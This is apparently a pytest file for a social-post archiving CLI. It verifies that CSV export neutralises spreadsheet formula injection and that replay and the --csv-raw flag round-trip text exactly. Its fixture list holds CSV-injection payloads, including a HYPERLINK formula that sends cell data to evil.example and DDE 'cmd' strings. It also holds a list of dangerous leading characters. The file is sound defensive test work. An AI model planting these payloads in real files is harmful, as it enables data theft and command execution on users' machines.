"""CSV export against formula injection (issue 13, item 8): cells that a spreadsheet
would run are neutralised by default; ``--csv-raw`` and replay give back exact text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from click.testing import CliRunner

from foretold.cli import main
from foretold.post import Author, Post
from foretold.store import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
REPLIES = ["@jpmorgan Why is it so hard to find you?", "@bsky.app @ann@mastodon.social hi"]


def _store(tmp_path: Path) -> Path:
    db = tmp_path / "s.db"
    texts = HOSTILE + REPLIES
    posts = [
        Post(platform="x", id=str(i), text=t, created_at=datetime(2013, 11, 13, tzinfo=UTC),
             author=Author(id="7", handle="ann", name="=1+1" if i == 0 else "Ann"))
        for i, t in enumerate(texts)
    ]  # fmt: skip
    with Store(db) as store:
        store.put_posts(posts)
    return db


def _export(db: Path, out: Path, *extra: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(
        main, ["export", "--store", str(db), "--format", "csv", "--out", str(out), *extra]
    )
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))


def test_formula_cells_are_neutralised_and_replies_to_handles_read_naturally(
    tmp_path: Path,
) -> None:
    rows = _export(_store(tmp_path), tmp_path / "out.csv")
    text = {r["id"]: r["text"] for r in rows}
    for i, t in enumerate(HOSTILE):
        assert text[str(i)] == "'" + t  # a spreadsheet shows it, never runs it
    for i, t in enumerate(REPLIES, len(HOSTILE)):
        assert text[str(i)] == t
    assert rows[0]["author_name"] == "'=1+1"  # every column, not only the text
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for r in rows:
        for column, cell in r.items():
            if cell.startswith(dangerous) and cell not in REPLIES:
                raise AssertionError(f"{column}: {cell!r} would run as a formula")


def test_replay_reads_a_neutralised_export_back_exactly(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    _export(_store(tmp_path), out)
    back = tmp_path / "back.db"
    result = CliRunner().invoke(
        main, ["replay", str(out), "--store", str(back), "--no-classify", "--no-progress"]
    )
    assert result.exit_code == 0, result.output
    with Store(back) as store:
        assert sorted(p.text for p in store.iter_posts()) == sorted(HOSTILE + REPLIES)


def test_csv_raw_writes_cells_as_they_are_and_reads_back_with_csv_raw(tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    rows = _export(_store(tmp_path), out, "--csv-raw")
    assert [r["text"] for r in rows] == HOSTILE + REPLIES
    back = tmp_path / "back.db"
    result = CliRunner().invoke(
        main,
        ["replay", str(out), "--csv-raw", "--store", str(back), "--no-classify", "--no-progress"],
    )
    assert result.exit_code == 0, result.output
    with Store(back) as store:
        assert sorted(p.text for p in store.iter_posts()) == sorted(HOSTILE + REPLIES)
